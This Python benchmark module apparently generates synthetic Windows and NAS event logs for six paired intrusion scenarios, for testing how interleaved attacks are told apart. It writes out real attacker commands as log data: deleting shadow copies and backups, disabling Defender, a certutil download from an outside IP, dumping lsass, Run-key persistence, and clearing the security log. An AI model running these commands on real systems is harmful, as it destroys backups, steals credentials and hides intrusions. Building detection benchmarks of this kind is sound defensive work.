"""Six more pairs of unrelated attacks on one machine, written after the grouping had been mended by what the twelve had shown: an independent look at it."""

from benchmarks.interleavings import CMD, EXPLORER, HIDDEN, OFFICE, OUTSIDE, SHELL, Written, guessing, phishing
from benchmarks.shapes import DOMAIN, SYSTEM, Lines, Session, Story, Windows, every

SYSTEM32 = "C:\\Windows\\System32\\"


def copies_deleted_while_another_settles(one: Story, other: Story) -> None:
    """The backup's account is stolen, and deletes the copies by remote desktop; in another session somebody's script makes itself at home."""
    server = Windows("SRV-TILLEULS", "192.168.1.2", sysmon=True)
    thief = server.sign_in(one, 0, "veeam.adm", 10, "192.168.1.250")
    shell = server.run(one, 30, thief, EXPLORER, f'"{CMD}"', CMD)
    server.run(one, 60, thief, shell, "wbadmin.exe delete catalog -quiet", f"{SYSTEM32}wbadmin.exe")
    server.run(one, 64, thief, shell, "vssadmin.exe delete shadows /all /quiet", f"{SYSTEM32}vssadmin.exe")
    server.run(one, 90, thief, shell, "bcdedit.exe /set {default} recoveryenabled no", f"{SYSTEM32}bcdedit.exe")
    guest = server.sign_in(other, 20, "stage2", 10, "192.168.1.44")
    script = server.run(
        other, 50, guest, EXPLORER, "powershell.exe -ep bypass -File C:\\Users\\stage2\\Downloads\\k.ps1", SHELL
    )
    key = f"HKU\\{guest.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\k"
    server.set(other, 70, script, key, "powershell.exe -w hidden C:\\Users\\Public\\k.ps1")
    server.run(other, 75, guest, script, f"powershell.exe -nop -w hidden -enc {HIDDEN}", SHELL)


def two_at_one_shared_computer(one: Story, other: Story) -> None:
    """A PC that two nurses share: the one's memory stick, and fifteen seconds later the other's invoice; no Sysmon."""
    pc = Windows("PC-SALLE", "192.168.1.55")
    first, second = pc.sign_in(one, 0, "nurse.a", 2), pc.sign_in(other, 5, "nurse.b", 2)
    script = pc.run(one, 300, first, EXPLORER, "wscript.exe E:\\photos.vbs", f"{SYSTEM32}wscript.exe")
    pc.run(one, 310, first, script, f"powershell.exe -w hidden -enc {HIDDEN}", SHELL)
    word = pc.run(
        other,
        315,
        second,
        EXPLORER,
        f'"{OFFICE}WINWORD.EXE" "C:\\Users\\nurse.b\\Downloads\\f.docm"',
        f"{OFFICE}WINWORD.EXE",
    )
    fetch = "certutil -urlcache -f http://198.51.100.9/a.exe C:\\Users\\Public\\a.exe"
    shell = pc.run(other, 330, second, word, f"cmd.exe /c {fetch}", CMD)
    pc.run(other, 331, second, shell, fetch, f"{SYSTEM32}certutil.exe")


def web_shell_while_an_administrator_is_made(one: Story, other: Story) -> None:
    """Somebody commands the web server through a page of his; the provider makes an administrator."""
    server = Windows("SRV-WEB", "192.168.1.9")
    pool = Session("DefaultAppPool", 0x4A11, domain="IIS APPPOOL", sid="S-1-5-82-1")
    worker = server.run(
        one, 10, pool, f"{SYSTEM32}svchost.exe", "w3wp.exe -ap DefaultAppPool", f"{SYSTEM32}inetsrv\\w3wp.exe"
    )
    for number, asked in enumerate(("whoami", "net user", "ipconfig /all", "net localgroup administrators")):
        shell = server.run(one, 40 + 15 * number, pool, worker, f"cmd.exe /c {asked}", CMD)
        server.run(one, 40.3 + 15 * number, pool, shell, asked, f"{SYSTEM32}{asked.split()[0]}.exe")
    provider = server.sign_in(other, 50, "it.prestataire", 10, "10.212.134.210")
    server.made_administrator(other, 80, provider, "helpdesk2")


def copied_while_encrypted(one: Story, other: Story) -> None:
    """On one NAS an intern copies the residents' files while another's PC encrypts a share."""
    nas = Lines("nas")
    for number, at in every(0, 0.5, 1_300):
        nas.samba(one, at, "r.stagiaire", "192.168.1.71", "residents", f"openat|ok|r|d/{number}.pdf")
    for number, at in every(200, 0.05, 600):
        nas.samba(other, at, "accueil", "192.168.1.41", "commun", f"pwrite_send|ok|c/{number}.docx")
        nas.samba(
            other, at + 0.02, "accueil", "192.168.1.41", "commun", f"renameat|ok|c/{number}.docx|c/{number}.docx.crypt"
        )


def service_planted_while_passwords_are_dumped(one: Story, other: Story) -> None:
    """From afar a service is planted that blinds Defender; within the same seconds the machine's user dumps passwords."""
    pc = Windows("PC-COMPTA", "192.168.1.33", sysmon=True)
    far = pc.sign_in(one, 0, "adm.local", 3, "192.168.1.88", "PC-X")
    pc.on_share(one, 1, far, "ADMIN$", "upd.exe", "0x2", "%%4417")
    pc.service(one, 3, "upd", "C:\\Windows\\Temp\\upd.exe")
    service = pc.run(one, 4, SYSTEM, f"{SYSTEM32}services.exe", "C:\\Windows\\Temp\\upd.exe", digest="AA" * 32)
    blind = "powershell Set-MpPreference -DisableRealtimeMonitoring $true"
    shell = pc.run(one, 8, SYSTEM, service, f"cmd.exe /c {blind}", CMD)
    pc.run(one, 9, SYSTEM, shell, blind, SHELL)
    user = pc.sign_in(other, -500, "compta1", 2)
    dump = pc.run(
        other, 2, user, EXPLORER, "C:\\Users\\compta1\\Desktop\\procdump64.exe -ma lsass.exe l.dmp", digest="BB" * 32
    )
    pc.opened(other, 3, dump, f"{SYSTEM32}lsass.exe", "0x1fffff")
    pc.wrote(other, 5, dump, "C:\\Users\\compta1\\Desktop\\l.dmp")


def mailed_before_the_log_is_cleared(one: Story, other: Story) -> None:
    """A mail's document is opened; a stranger who guessed his way in clears the log a few minutes later."""
    server = Windows("SRV-TS", "192.168.1.8")
    phishing(server, one, 300, "p.simon")
    guessing(server, other, 0, OUTSIDE[3], tries=60)
    thief = server.sign_in(other, 600, "scan", 10, OUTSIDE[3])
    server.event(
        other,
        700,
        1102,
        SubjectUserSid=thief.sid,
        SubjectUserName="scan",
        SubjectDomainName=DOMAIN,
        SubjectLogonId=thief.logon,
    )


LATER: tuple[Written, ...] = (
    copies_deleted_while_another_settles, two_at_one_shared_computer, web_shell_while_an_administrator_is_made, copied_while_encrypted,
    service_planted_while_passwords_are_dumped, mailed_before_the_log_is_cleared,
)  # fmt: skip
